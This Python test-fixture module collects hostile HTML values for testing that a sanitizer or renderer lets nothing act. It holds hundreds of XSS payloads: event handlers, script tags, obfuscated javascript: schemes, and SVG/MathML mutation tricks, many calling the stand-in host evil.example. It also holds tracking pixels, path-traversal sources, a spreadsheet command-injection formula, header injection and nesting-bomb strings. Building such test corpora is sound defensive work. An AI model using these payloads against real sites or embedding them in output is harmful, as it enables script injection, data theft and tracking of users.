"""Hostile values of our own making: pieces of HTML that must never act, whatever reads them and whatever prints them.

``MARK`` stands in each as the thing that would act; a tree or an output in which it is an address, a tag or an
attribute has let something through.
"""

from __future__ import annotations

MARK = "evil.example"
_CALL = f"fetch('//{MARK}')"

_HANDLERS = tuple(
    f'<{tag} {handler}="{_CALL}">words</{tag}>'
    for tag, handler in (
        *(("p", "onclick"), ("div", "onmouseover"), ("b", "onfocus"), ("a", "onmousedown"), ("span", "onpointerenter")),
        *(("details", "ontoggle"), ("table", "onload"), ("td", "onkeyup"), ("h1", "oncopy"), ("ul", "onwheel")),
        *(("body", "onload"), ("body", "onpageshow"), ("marquee", "onstart"), ("form", "onsubmit"), ("q", "ondrag")),
        *(("blockquote", "onanimationstart"), ("pre", "ontransitionend"), ("figure", "onauxclick"), ("dl", "oncut")),
    )
)

_HANDLERS_ON_EMPTY = (
    f'<img src=x onerror="{_CALL}">',
    f"<img src=x onerror={_CALL}>",
    f"<img/src=x/onerror={_CALL}>",
    f'<img src="x"onerror="{_CALL}">',
    f"<IMG SRC=x OnErRoR='{_CALL}'>",
    f'<img src=x:x onerror\n=\n"{_CALL}">',
    f'<img src=x on\x00error="{_CALL}">',
    f'<img alt="`><img src=x onerror={_CALL}>">',
    f'<input autofocus onfocus="{_CALL}">',
    f'<video><source onerror="{_CALL}"></video>',
    f'<video src=x onerror="{_CALL}"></video>',
    f'<audio src=x onerror="{_CALL}"></audio>',
    f'<image src=x onerror="{_CALL}">',
    f'<hr onclick="{_CALL}">',
    f'<br onclick="{_CALL}">',
    f'<link rel=stylesheet href=x onload="{_CALL}">',
    f'<p ""onclick="{_CALL}">words',
    f"<p title='\"' onclick='{_CALL}'>words",
    f'<a href="https://example.org/" onclick="{_CALL}">words</a>',
)

_SCRIPTS = (
    f"<script>{_CALL}</script>",
    f"<script src=//{MARK}/x.js></script>",
    f"<SCRIPT>{_CALL}</SCRIPT>",
    f"<scr<script>ipt>{_CALL}</scr</script>ipt>",
    f"<<script>{_CALL}//<</script>",
    f"<script\x0c>{_CALL}</script>",
    f"<script/x>{_CALL}</script>",
    f"<script\n>{_CALL}</script\n>",
    f"</script><script>{_CALL}</script>",
    f"<script type=module>import '//{MARK}'</script>",
    f"<script>{_CALL}",
    f"<script><!--<script></script>{_CALL}--></script>",
    f'<noscript><p title="</noscript><img src=x onerror={_CALL}>">',
    f"<textarea></textarea><script>{_CALL}</script>",
    f"<title><script>{_CALL}</script></title>",
    f"<!--><script>{_CALL}</script>-->",
    f"<!-- --!><script>{_CALL}</script>",
    f"<![CDATA[<script>{_CALL}</script>]]>",
    f"<?php <script>{_CALL}</script> ?>",
    f"<template><script>{_CALL}</script></template>",
    f"<noembed><script>{_CALL}</script></noembed>",
    f"<xmp><script>{_CALL}</script></xmp>",
    f"<plaintext><script>{_CALL}</script>",
    f"&lt;script&gt;{_CALL}&lt;/script&gt;",
    f"&amp;lt;script&amp;gt;{_CALL}&amp;lt;/script&amp;gt;",
    f"&#60;script&#62;{_CALL}&#60;/script&#62;",
    f"%3Cscript%3E{_CALL}%3C/script%3E",
    f"\\u003cscript\\u003e{_CALL}\\u003c/script\\u003e",
    f"＜script＞{_CALL}＜/script＞",
    f"<ſcript>{_CALL}</ſcript>",
)

_SCHEMES = tuple(
    f'<a href="{scheme}{_CALL}">words</a>'
    for scheme in (
        *("javascript:", "JaVaScRiPt:", " javascript:", "\x01javascript:", "java\tscript:", "java\nscript:"),
        *("java\rscript:", "javascript&colon;", "javascript&#58;", "&#106;avascript:", "&#x6A;avascript:"),
        *("&#0000106avascript:", "javascript\x00:", "javascript :", "view-source:javascript:", "feed:javascript:"),
        *("vbscript:", "VBScript:", "vb\tscript:", "livescript:", "mocha:", "jar:javascript:", "java\u200bscript:"),
        *("data:text/html,<script>", "data:text/html;base64,", "data:image/svg+xml,", "DATA:text/html,", "da\tta:,"),
        *(
            "file:///etc/passwd#",
            "blob:https://",
            "about:blank#",
            "ms-its:",
            "intent://",
            "filesystem:",
            "tel:",
            "ws://",
        ),
        *("x-javascript:", "\ufeffjavascript:", "\u2028javascript:", "//\tjavascript:", "javascript://%0a", "ftp://"),
    )
)

_SOURCES = (
    *(
        f'<img src="{source}" alt="words">'
        for source in (
            *(f"javascript:{_CALL}", f"vbscript:{_CALL}", "data:image/svg+xml,<svg onload=x>", "data:text/html,x"),
            *("file:///etc/passwd", "/etc/passwd", "../../../etc/passwd", "..\\..\\secret.png", "C:\\secret.png"),
            *(
                "~/.ssh/id_rsa",
                "\\\\evil.example\\share.png",
                "jar:file:///x",
                "gopher://evil.example/1",
                "about:blank",
            ),
        )
    ),
    f'<img srcset="javascript:{_CALL} 2x" alt=words>',
    f'<img data-src="javascript:{_CALL}" alt=words>',
    f'<picture><source srcset="javascript:{_CALL}"><img alt=words></picture>',
    f'<img lowsrc="javascript:{_CALL}" dynsrc="javascript:{_CALL}" alt=words>',
)

_EMBEDS = (
    f"<iframe src=//{MARK}></iframe>",
    f"<iframe src=javascript:{_CALL}></iframe>",
    f'<iframe srcdoc="<script>{_CALL}</script>"></iframe>',
    f"<iframe/src=//{MARK}>",
    f"<frameset><frame src=//{MARK}></frameset>",
    f"<object data=//{MARK}/x.swf></object>",
    f"<object data=javascript:{_CALL}></object>",
    f"<embed src=//{MARK}/x.swf>",
    f"<embed code=//{MARK}/x>",
    f"<applet code=Evil archive=//{MARK}></applet>",
    f"<portal src=//{MARK}></portal>",
    f"<fencedframe src=//{MARK}></fencedframe>",
    f"<param name=src value=//{MARK}>",
    f"<video poster=//{MARK}/x.png></video>",
    f"<audio src=//{MARK}/x.mp3 autoplay></audio>",
    f"<bgsound src=//{MARK}/x.mid>",
    f"<layer src=//{MARK}></layer>",
    f"<canvas id=c></canvas><script>{_CALL}</script>",
)

_HEAD = (
    f'<meta http-equiv=refresh content="0;url=//{MARK}">',
    f'<meta http-equiv="refresh" content="0;url=javascript:{_CALL}">',
    f"<meta http-equiv=Set-Cookie content=a={MARK}>",
    f'<meta http-equiv=Content-Security-Policy content="script-src {MARK}">',
    f"<base href=//{MARK}/><a href=x>words</a>",
    f"<base href=javascript:{_CALL}/><a href=x>words</a>",
    "<base href='data:text/html,'><a href=x>words</a><img src=y>",
    f"<link rel=stylesheet href=//{MARK}/x.css>",
    f"<link rel=import href=//{MARK}>",
    f"<link rel=prefetch href=//{MARK}>",
    f"<link rel=dns-prefetch href=//{MARK}>",
    f"<html manifest=//{MARK}>words",
    f"<body background=//{MARK}/x.png>words",
    f"<table background=//{MARK}/x.png><tr><td background=//{MARK}/y.png>words</table>",
)

_STYLES = (
    f"<style>@import '//{MARK}/x.css';</style>",
    f"<style>body{{background:url(//{MARK})}}</style>",
    f"<style><img src=x onerror={_CALL}></style>",
    f'<p style="background:url(//{MARK})">words',
    f'<p style="background-image:u\\72l(//{MARK})">words',
    f'<p style="width:expression({_CALL})">words',
    f'<p style="-moz-binding:url(//{MARK}/x.xml)">words',
    f'<p style="behavior:url(//{MARK}/x.htc)">words',
    f"<p style='list-style:url(\"javascript:{_CALL}\")'>words",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9'>words</div>",
    f"<style></style><style>p{{content:url(//{MARK})}}</style>",
    f"<svg><style>*{{background:url(//{MARK})}}</style></svg>",
    f"<link href='//{MARK}' rel='alternate stylesheet'>",
)

_DRAWINGS = (
    f"<svg onload={_CALL}></svg>",
    f"<svg/onload={_CALL}>",
    f"<svg><script>{_CALL}</script></svg>",
    f"<svg><script href=//{MARK}/x.js></script></svg>",
    f"<svg><a xlink:href=javascript:{_CALL}><text>words</text></a></svg>",
    f"<svg><image href=//{MARK}/x.png /></svg>",
    f"<svg><use href=//{MARK}/x.svg#a /></svg>",
    f"<svg><foreignObject><iframe src=//{MARK}></iframe></foreignObject></svg>",
    f"<svg><animate attributeName=href values=javascript:{_CALL} /></svg>",
    f"<svg><set attributeName=onmouseover to={_CALL} /></svg>",
    f"<svg><text onclick={_CALL}>words</text></svg>",
    f"<svg><title><script>{_CALL}</script></title></svg>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{_CALL}>words</maction></math>",
    f"<math href=javascript:{_CALL}>words</math>",
    f"<math><annotation-xml encoding=text/html><script>{_CALL}</script></annotation-xml></math>",
)

_MUTATIONS = (
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={_CALL}&gt;'>",
    f"<svg></p><style><a id='</style><img src=x onerror={_CALL}>'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={_CALL}>",
    f"<noscript><style></noscript><img src=x onerror={_CALL}></style>",
    f"<p><svg><style><a title='</style><img src=x onerror={_CALL}>'></svg>",
    f"<listing>&lt;img src=x onerror={_CALL}&gt;</listing>",
    f"<xmp><p title='</xmp><img src=x onerror={_CALL}>'>",
    f"<textarea><p title='</textarea><img src=x onerror={_CALL}>'>",
    f"<title><p title='</title><img src=x onerror={_CALL}>'>",
    f"<select><style></select><img src=x onerror={_CALL}></style>",
    f"<table><td><svg><desc><table><img src=x onerror={_CALL}>",
    f"<a href='x'><math><a href='javascript:{_CALL}'>words",
    f"<div id='x'>`<img src=x onerror={_CALL}>`</div>",
    f"<p title=&quot;><img src=x onerror={_CALL}>",
    f"<iframe><p title='</iframe><img src=x onerror={_CALL}>'></iframe>",
    f"<noframes><p title='</noframes><img src=x onerror={_CALL}>'>",
)

_FORMS = (
    f"<form action=//{MARK}><input name=a><input type=submit></form>",
    f"<form action=javascript:{_CALL}><button>words</button></form>",
    f"<button formaction=javascript:{_CALL}>words</button>",
    f"<input type=image src=//{MARK}/x.png formaction=//{MARK}>",
    f"<form id=f></form><button form=f formaction=//{MARK}>words</button>",
    "<select onchange=x><option>words</select>",
    "<textarea autofocus onfocus=x>words</textarea>",
    "<keygen name=a>",
    f"<isindex action=//{MARK}>",
    "<label for=a>words</label><input id=a type=password>",
    f"<a href=https://example.org ping=//{MARK}>words</a>",
    "<dialog open>words</dialog>",
)

_PIXELS = (
    f"<img src=//{MARK}/a.gif width=1 height=1>",
    f"<img src=//{MARK}/a.gif width=0>",
    f"<img src=//{MARK}/a.gif height='1px'>",
    f"<img src=//{MARK}/a.gif style='width:1px;height:1px'>",
    f"<img src=//{MARK}/a.gif style='display: none'>",
    f"<img src=//{MARK}/a.gif style='visibility:hidden'>",
    f"<img src=//{MARK}/a.gif hidden>",
    f"<div style='display:none'><img src=//{MARK}/a.gif></div>",
    f"<noscript><img src=//{MARK}/a.gif width=1 height=1></noscript>",
    f"<p>words<img alt='' src='https://{MARK}/o?u=1' width=\"1\" height=\"1\"></p>",
)

_SIGNS = (
    "words\x00words",
    "words\x01\x02\x1b[31mwords",
    "\u202ewords\u202c",
    "\u2066words",
    "words\ufffe\uffff",
    "&#0;&#1;&#x80;&#xD800;&#x110000;",
    "&notanentity; &amp;amp; &lt;b&gt; &#x3c;i&#x3e;",
    "]]>words",
    "--><b>words",
    "\x3c\x2f\x70\x3ewords",
    "<p>{{ 7*7 }} {% raw %} ${7*7} #{7*7}</p>",
    "<p>=cmd|' /C calc'!A0</p>",
    "<p>[words](javascript:alert(1)) ![x](javascript:alert(1)) <javascript:alert(1)></p>",
    "<p>[x]: javascript:alert(1)</p><p>```</p><p>&lt;b&gt;</p>",
    "<p>Subject: x\r\nBcc: a@evil.example</p>",
    "<p>@import url(//evil.example);</p><code>&lt;/code&gt;&lt;script&gt;</code>",
    "<pre>&lt;/pre&gt;&lt;script&gt;x&lt;/script&gt;</pre>",
    "<a href='https://example.org/\"onclick=\"x'>words</a>",
    "<a href='https://example.org/&lt;script&gt;'>words</a>",
    "<a href='mailto:a@example.org?bcc=b@evil.example%0d%0aX: y'>words</a>",
    "<img src='https://example.org/\"onerror=\"x' alt='\"><script>x</script>'>",
    "<p lang='\"><script>'>words</p>",
    "<p lang='en\" onclick=\"x'>words</p>",
    "<pre><code class='language-\"><script>x</script>'>words</code></pre>",
    "<ol start='1\" onclick=\"x'><li>words</ol>",
    "<td colspan=1000000 rowspan=1000000>words",
    "<table><tr><td colspan=99999999999999999999>words<td rowspan=-1>words</table>",
)

_NESTS = (
    "<div>" * 3000 + "words",
    "<b>" * 3000 + "words",
    "<blockquote>" * 600 + "words",
    "<ul><li>" * 600 + "words",
    "<table><tr><td>" * 300 + "words",
    "<a href=https://example.org/>" * 500 + "words",
    "<dl><dt>words<dd>" * 300 + "words",
    "<p>" + "".join(f"<b id={at}>" for at in range(300)) + "<p>words" * 300,
    "<p " + " ".join(f"a{at}=1" for at in range(3000)) + ">words",
    "<i><b></i>" * 1000 + "words",
    "<" * 3000 + "words",
    "&" * 3000 + "words",
    "<!--" * 1000,
    "<p a='" * 1000,
    "<svg>" * 500 + "words",
    "<noscript>" * 500 + "words",
    "<sup><a href=#a>1</a></sup><p id=a>" * 200 + "words",
)

HOSTILE: tuple[str, ...] = (
    *(*_HANDLERS, *_HANDLERS_ON_EMPTY, *_SCRIPTS, *_SCHEMES, *_SOURCES, *_EMBEDS, *_HEAD, *_STYLES),
    *(*_DRAWINGS, *_MUTATIONS, *_FORMS, *_PIXELS, *_SIGNS, *_NESTS),
)
"""Every value; each is a whole piece of HTML."""
